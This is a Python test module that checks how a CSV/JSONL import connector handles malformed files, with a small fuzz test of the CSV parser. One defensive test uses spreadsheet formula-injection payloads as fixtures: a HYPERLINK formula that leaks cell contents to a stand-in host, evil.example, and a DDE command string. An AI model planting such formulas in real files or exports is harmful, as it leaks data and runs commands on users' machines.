"""Bad-input corpus for the file connectors (issue 6): every file gives a clear located error
or a clean import, never a traceback, a hang or a silently dropped line. Plus a small
Hypothesis fuzz of the CSV parser (round trip of anything Python's csv module can write)."""

from __future__ import annotations

import csv
import io
import json
import random
from pathlib import Path
from typing import Any

import pyarrow as pa
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from leadbridge.connectors.files import CsvConnector, JsonlConnector
from leadbridge.errors import LeadbridgeError
from leadbridge.records import to_batches

pytestmark = pytest.mark.timeout(60)


def _read(path: Path, **options: Any) -> list[dict[str, Any]]:
    cls = JsonlConnector if path.suffix == ".jsonl" else CsvConnector
    conn = cls(path=str(path), **options)
    return pa.Table.from_batches(list(to_batches(conn.records({})))).to_pylist()


def _accounted(rows: list[dict[str, Any]], data_lines: int) -> tuple[int, int]:
    ok = sum(1 for r in rows if r["reject_reason"] is None)
    bad = [r for r in rows if r["reject_reason"] is not None]
    assert ok + len(bad) == data_lines, (ok, [r["reject_reason"] for r in bad])
    for r in bad:  # a located reason: "line N: why", and the id names the same line
        assert r["reject_reason"].startswith("line ") and r["source_id"].startswith("line:")
        assert r["reject_reason"].split(":")[0] == "line " + r["source_id"][5:]
    return ok, len(bad)


def test_binary_junk_is_a_clear_error_or_located_rejects(tmp_path):
    rng = random.Random(6)
    for n in range(5):
        path = tmp_path / f"junk{n}.csv"
        path.write_bytes(bytes(rng.randrange(256) for _ in range(4000)))
        try:
            rows = _read(path)
        except LeadbridgeError as exc:
            assert str(exc) and "Traceback" not in str(exc)
            continue
        assert rows  # something was read: each record good or rejected with its line
        for r in rows:
            assert r["source_id"]


def test_wrong_encoding_given_rejects_only_the_lines_it_cannot_decode(tmp_path):
    path = tmp_path / "win.csv"
    lines = ["id,name"] + [f"{i},{'Café' if i % 3 == 0 else 'Plain'}" for i in range(1, 31)]
    path.write_bytes(("\n".join(lines) + "\n").encode("cp1252"))
    rows = _read(path, encoding="utf-8")
    ok, bad = _accounted(rows, 30)
    assert bad == 10 and ok == 20
    assert all("undecodable" in r["reject_reason"] for r in rows if r["reject_reason"])
    # detected without the wrong hint: every line imported, decoded right
    rows = _read(path)
    assert _accounted(rows, 30) == (30, 0)
    assert {r["contact_name"] for r in rows} == {"Café", "Plain"}


def test_one_megabyte_field_is_imported_intact(tmp_path):
    big = "x" * (1 << 20)
    path = tmp_path / "big.csv"
    path.write_text(f'id,name,notes\n1,Ann,"{big}"\n2,Bob,short\n', encoding="utf-8")
    rows = _read(path)
    assert _accounted(rows, 2) == (2, 0)
    notes = {r["source_id"]: json.loads(r["custom_fields"])["notes"] for r in rows}
    assert notes["1"] == big and notes["2"] == "short"


def test_ten_thousand_columns(tmp_path):
    headers = ["id", "email"] + [f"col{i}" for i in range(9998)]
    path = tmp_path / "wide.csv"
    with path.open("w", newline="", encoding="utf-8") as fh:
        w = csv.writer(fh)
        w.writerow(headers)
        for r in range(3):
            w.writerow([f"r{r}", f"p{r}@example.com"] + [f"{r}-{i}" for i in range(9998)])
    rows = _read(path)
    assert _accounted(rows, 3) == (3, 0)
    custom = json.loads(next(r for r in rows if r["source_id"] == "r2")["custom_fields"])
    assert len(custom) == 9998 and custom["col9997"] == "2-9997"


def test_formula_injection_is_kept_as_text_and_neutralized_in_csv_reports(tmp_path):
    from leadbridge.pipeline import report

    evil = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    path = tmp_path / "f.csv"
    with path.open("w", newline="", encoding="utf-8") as fh:
        w = csv.writer(fh)
        w.writerow(["id", "name", "email", "note"])
        w.writerow([evil, evil, "a@example.com", "+cmd|' /C calc'!A0"])
        w.writerow(["-2", "@SUM(1)", "b@example.com", "ok"])
    rows = _read(path)
    assert _accounted(rows, 2) == (2, 0)
    first = next(r for r in rows if r["source_id"] == evil)
    assert first["contact_name"] == evil  # data is never altered on the way in
    out = io.StringIO()
    report.write_csv([{"source": "csv", "source_id": r["source_id"], "status": "created",
                       "errors": None} for r in rows], out)
    cells = [c for row in csv.reader(io.StringIO(out.getvalue())) for c in row]
    assert f"'{evil}" in cells and "'-2" in cells and evil not in cells


def test_nul_bytes_inside_fields_are_imported_or_located(tmp_path):
    path = tmp_path / "nul.csv"
    path.write_bytes(b"id,name,email\n1,A\x00nn,a@example.com\n2,Bob,b@example.com\n"
                     b"3,\x00,c@example.com\n")
    rows = _read(path)
    ok, bad = _accounted(rows, 3)
    assert ok >= 1


def test_mismatched_quotes_are_located(tmp_path):
    path = tmp_path / "q.csv"
    path.write_text('id,name,email\n1,"Ann,a@example.com\n2,Bob,b@example.com\n', encoding="utf-8")
    rows = _read(path)
    assert [r["source_id"] for r in rows] == ["line:2"]  # the open quote runs to the end
    path.write_text('id,name,email\n1,"Ann"x,a@example.com\n2,Bob,b@example.com\n',
                    encoding="utf-8")
    rows = _read(path)
    assert _accounted(rows, 2) == (1, 1)


def test_duplicated_headers_keep_both_columns(tmp_path):
    path = tmp_path / "d.csv"
    path.write_text("id,Email,Notes,Notes,Email\n1,a@example.com,n1,n2,second@example.com\n",
                    encoding="utf-8")
    rows = _read(path)
    assert rows[0]["contact_email"] == "a@example.com"
    assert json.loads(rows[0]["custom_fields"]) == {"Notes": "n1", "Notes (2)": "n2",
                                                    "Email": "second@example.com"}


@pytest.mark.parametrize("content, word", [
    (b"", "empty"), (b"\n\n", "empty"), (b"id,name\n", "no data lines"),
    (b"id,name\r\n\r\n", "no data lines"),
])
def test_empty_and_header_only_files(tmp_path, content, word):
    path = tmp_path / "e.csv"
    path.write_bytes(content)
    with pytest.raises(LeadbridgeError, match=word):
        _read(path)


def test_jsonl_junk_lines_are_located(tmp_path):
    path = tmp_path / "j.jsonl"
    path.write_bytes(b'{"email": "a@example.com"}\n\x00\x01\x02\n{"email": 1\n'
                     b'{"email": "b@example.com", "x": {"deep": [1, {"a": null}]}}\n')
    rows = _read(path)
    assert _accounted(rows, 4) == (2, 2)


_text = st.text(st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00\r"),
                max_size=12)


@settings(suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(rows=st.lists(st.tuples(_text, _text, _text), min_size=1, max_size=8),
       delim=st.sampled_from([",", "\t", ";"]))
def test_fuzz_anything_csv_writes_comes_back_intact(tmp_path, rows, delim):
    path = tmp_path / "fuzz.csv"
    with path.open("w", newline="", encoding="utf-8") as fh:
        w = csv.writer(fh, delimiter=delim, quoting=csv.QUOTE_ALL)
        w.writerow(["id", "Name", "Notes", "Extra"])
        for n, row in enumerate(rows):
            w.writerow([f"k{n}", *row])
    got = {r["source_id"]: r for r in _read(path)}
    assert len(got) == len(rows) and not any(r["reject_reason"] for r in got.values())
    for n, (name, notes, extra) in enumerate(rows):
        r = got[f"k{n}"]
        custom = json.loads(r["custom_fields"])
        assert (r["contact_name"] or "", custom["Notes"] or "", custom["Extra"] or "") == (
            name, notes, extra)


@settings(suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(data=st.binary(min_size=1, max_size=300), kind=st.sampled_from([".csv", ".jsonl"]))
def test_fuzz_arbitrary_bytes_never_crash(tmp_path, data, kind):
    path = tmp_path / f"any{kind}"
    path.write_bytes(b"id,name\n" + data if kind == ".csv" else data)
    try:
        rows = _read(path)
    except LeadbridgeError as exc:
        assert str(exc) and "\n  file = " not in str(exc)
        return
    for r in rows:  # each record is either usable or rejected at a named line
        assert r["source_id"]
        if r["reject_reason"]:
            assert r["reject_reason"].startswith("line ")
